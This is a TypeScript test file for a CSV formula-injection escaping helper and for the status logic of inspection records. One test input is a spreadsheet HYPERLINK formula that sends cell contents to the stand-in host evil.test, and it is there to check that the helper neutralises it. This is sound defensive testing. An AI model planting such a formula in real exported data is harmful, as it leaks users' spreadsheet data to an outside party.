import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { formulaSafeCell, formulaSafeRow } from '../../../shared/records/csv-safe';
import { inspectionOutcome, statusWhenSigned } from '../../../shared/records/inspection-record';

describe('formulaSafeCell', () => {
  // [common practice] OWASP's CSV injection guidance: cells starting with = + - @ tab or CR are read as formulas.
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://evil.test/?"&B2&C2,"Gate OK")'])('prefixes %j with a single quote', (cell) => {
    expect(formulaSafeCell(cell)).toBe(`'${cell}`);
  });

  it('leaves every other cell exactly as it was', () => {
    expect(formulaSafeRow(['Gate OK', '', '12', 'a=b', " 'quoted", null, undefined, 3])).toEqual(['Gate OK', '', '12', 'a=b', " 'quoted", '', '', '3']);
    fc.assert(
      fc.property(fc.string(), (s) => {
        const out = formulaSafeCell(s);
        expect(out).toBe(/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
        expect(out).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});

describe('inspectionOutcome', () => {
  const base = { kind: 'periodic' as const, pointId: 1, clearanceSigned: true, pointStatus: null, pointReasons: null, failedItems: [] };

  it('says cleared only when a clearance was signed and the point was not blocked when signed', () => {
    expect(inspectionOutcome({ ...base, pointStatus: 'cleared', pointReasons: [] }).cleared).toBe(true);
    expect(inspectionOutcome({ ...base, pointStatus: 'expiring', pointReasons: [] }).cleared).toBe(true);
    const blocked = inspectionOutcome({ ...base, pointStatus: 'blocked', pointReasons: [{ code: 'gear_unfit', message: 'Hoop HP-1 is quarantined' }] });
    expect(blocked).toEqual({ cleared: false, status: 'blocked', recorded: true, reasons: [{ code: 'gear_unfit', message: 'Hoop HP-1 is quarantined' }] });
    expect(inspectionOutcome({ ...base, kind: 'pre_use', clearanceSigned: false, pointStatus: 'cleared', pointReasons: [] }).cleared).toBe(false);
  });

  it('reads an older row without a kept status from what the row holds, and says it was not recorded', () => {
    expect(inspectionOutcome({ ...base, clearanceSigned: false, failedItems: ['Swivel'] })).toEqual({ cleared: false, status: 'blocked', recorded: false, reasons: [{ code: 'item_failed', message: 'Failed: Swivel' }] });
    expect(inspectionOutcome(base)).toEqual({ cleared: true, status: null, recorded: false, reasons: [] });
    expect(inspectionOutcome({ ...base, pointId: null })).toMatchObject({ cleared: false, status: null });
  });

  it('records a failed item as blocking, first among the reasons', () => {
    expect(statusWhenSigned({ status: 'cleared', reasons: [] }, ['Beam clamp'])).toEqual({ status: 'blocked', reasons: [{ code: 'item_failed', message: 'Failed: Beam clamp (a fault was opened)' }] });
    expect(statusWhenSigned({ status: 'expiring', reasons: [] }, [])).toEqual({ status: 'expiring', reasons: [] });
  });
});
